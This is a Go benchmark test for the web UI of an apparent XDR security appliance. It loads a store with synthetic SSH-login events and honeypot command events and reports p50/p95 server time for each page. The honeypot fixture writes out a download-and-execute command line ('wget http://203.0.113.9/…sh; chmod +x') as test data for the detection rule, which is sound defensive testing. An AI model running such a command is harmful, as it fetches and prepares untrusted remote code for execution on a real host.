package ui_test

import (
	"context"
	"flag"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"testing"
	"time"

	"github.com/minixdr/xdr/appliance"
	"github.com/minixdr/xdr/appliance/command"
	"github.com/minixdr/xdr/appliance/detect"
	"github.com/minixdr/xdr/storage/storetest"
	"github.com/minixdr/xdr/ui"
)

// Page server-time benchmarks over a populated store (docs/performance.md):
//
//	go test ./ui -run '^$' -bench BenchmarkPages -benchtime 50x
//
// Each page reports its p50 and p95 server time; the target is p95 < 100 ms
// with 1,000,000 events and 10,000 alerts stored.
var (
	benchEvents = flag.Int("bench.events", 1_000_000, "events stored for BenchmarkPages")
	benchAlerts = flag.Int("bench.alerts", 10_000, "alerts raised for BenchmarkPages")
)

// benchAttackers is how many addresses the alerts come from.
const benchAttackers = 2000

// benchNow is the benchmark's wall clock: the events span the 30 days
// before it.
var benchNow = time.Date(2026, 11, 1, 12, 0, 0, 0, time.UTC)

func benchEvent(i, n int) appliance.Event {
	ts := benchNow.Add(-time.Duration(float64(30*24*time.Hour) * float64(n-i) / float64(n)))
	outcome := "failure"
	if i%5 == 0 {
		outcome = "success"
	}
	user := "user-" + strconv.Itoa(i%200)
	ip := fmt.Sprintf("10.%d.%d.%d", i%3, (i/3)%40, (i/120)%50) // 6,000 addresses
	return storetest.Event("default", "json", ts, uint64(i), map[string]any{
		"event.action": "ssh-login", "event.category": []any{"authentication"}, "event.outcome": outcome,
		"source.ip": ip, "source.port": float64(40000 + i%20000), "user.name": user,
		"host.name": "host-" + strconv.Itoa(i%50),
		"message":   "Failed password for " + user + " from " + ip + " port 51234 ssh2",
	})
}

func BenchmarkPages(b *testing.B) {
	store := storetest.MustOpenStore(b)
	log := &storetest.Log{TB: b, Store: store}
	log.MustApply(&command.CreateTenant{Tenant: appliance.Tenant{Name: "default", Created: benchNow}})
	n := *benchEvents
	start := time.Now()
	const batch = 1000
	for first := 0; first < n; first += batch {
		c := &command.IngestBatch{Tenant: "default", Source: "json", BatchID: "bench-" + strconv.Itoa(first)}
		for i := first; i < min(first+batch, n); i++ {
			c.Events = append(c.Events, benchEvent(i, n))
		}
		log.MustApply(c)
	}
	b.Logf("stored %d events in %v", n, time.Since(start).Round(time.Millisecond))
	// Honeypot commands that the built-in rule turns into alerts: one each,
	// from benchAttackers addresses (so that many incidents), over 30 days.
	start = time.Now()
	for first := 0; first < *benchAlerts; first += batch {
		c := &command.IngestBatch{Tenant: "default", Source: "cowrie", BatchID: "alerts-" + strconv.Itoa(first)}
		for i := first; i < min(first+batch, *benchAlerts); i++ {
			ts := benchNow.Add(-time.Duration(float64(30*24*time.Hour) * float64(*benchAlerts-i) / float64(*benchAlerts)))
			c.Events = append(c.Events, storetest.Event("default", "cowrie", ts, uint64(n+i), map[string]any{
				"event.action": "command-input", "event.dataset": "cowrie", "host.name": "hp-1", "user.name": "root",
				"source.ip":            fmt.Sprintf("198.51.%d.%d", (i%benchAttackers)/250, (i%benchAttackers)%250),
				"process.command_line": "wget http://203.0.113.9/b" + strconv.Itoa(i) + ".sh; chmod +x b.sh",
			}))
		}
		log.MustApply(c)
	}
	alerts, err := store.Alerts(context.Background(), detect.AlertQuery{Tenant: "default", Limit: 1})
	if err != nil || len(alerts.Alerts) == 0 {
		b.Fatalf("no alerts were raised: %v", err)
	}
	b.Logf("stored %d honeypot commands in %v", *benchAlerts, time.Since(start).Round(time.Millisecond))
	incs, total, err := store.IncidentList(context.Background(), appliance.IncidentFilter{Tenant: "default", Limit: 1})
	if err != nil || total == 0 {
		b.Fatalf("no incidents: %v", err)
	}
	b.Logf("%d incidents", total)
	now := func() time.Time { return benchNow }
	h := ui.New(ui.Deps{Auth: &fakeAuth{}, Events: store, Node: fakeNode{true}, Metrics: http.NotFoundHandler(),
		Detect: detect.NewService(&storetest.Proposer{Store: store}, store, now),
		Log:    storetest.Discard, Now: now}).Handler()
	anID := benchEvent(n/2, n).ID.String()
	// success is every fifth event and host-N every fiftieth from N: no
	// event has both success and host-3 (the planner must rule out the whole
	// range), every host-5 event is a success (a page fills at once).
	for _, p := range []string{
		"/dashboard?range=30d", "/dashboard?range=7d", "/dashboard", "/dashboard?range=1h",
		"/events", "/events?q=user.name%3Auser-7", "/events?q=failed", "/events?q=event.outcome%3Asuccess+AND+host.name%3Ahost-3",
		"/events?q=event.outcome%3Asuccess+AND+host.name%3Ahost-5", "/events?from=2026-10-31T12%3A00%3A00Z",
		"/events/" + anID,
		"/alerts", "/alerts?q=severity%3Ahigh+AND+source.ip%3A198.51.1.*", "/incidents", "/incidents?status=&sort=severity",
		"/incidents?status=&page=20", "/incidents/" + incs[0].ID, "/rules", "/attack", "/attack?range=30d",
	} {
		// The 30-day dashboard comes first, so its slowest view is the cold
		// read of every day's counts.
		b.Run(p, func(b *testing.B) { benchServerTime(b, h, p) })
	}
}

// benchServerTime serves GET path as an admin signed in (session and API
// token) b.N times, failing on any status but 200, and reports the p50 and
// p95 server times in ms, and the slowest (max-ms): the first view of a
// range after the store opened, when the event store has none of its hour
// and day buckets' counts in memory yet.
func benchServerTime(b *testing.B, h http.Handler, path string) {
	var took []time.Duration
	for b.Loop() {
		req := httptest.NewRequest("GET", path, nil)
		req.AddCookie(&http.Cookie{Name: "xdr_session", Value: "xdrs_bench"})
		req.Header.Set("Authorization", "Bearer xdr_bench")
		rec := httptest.NewRecorder()
		start := time.Now()
		h.ServeHTTP(rec, req)
		took = append(took, time.Since(start))
		if rec.Code != http.StatusOK {
			b.Fatalf("GET %s: %d\n%.2000s", path, rec.Code, rec.Body)
		}
	}
	slices.Sort(took)
	b.ReportMetric(float64(took[len(took)/2].Microseconds())/1000, "p50-ms")
	b.ReportMetric(float64(took[len(took)*95/100].Microseconds())/1000, "p95-ms")
	b.ReportMetric(float64(took[len(took)-1].Microseconds())/1000, "max-ms")
}
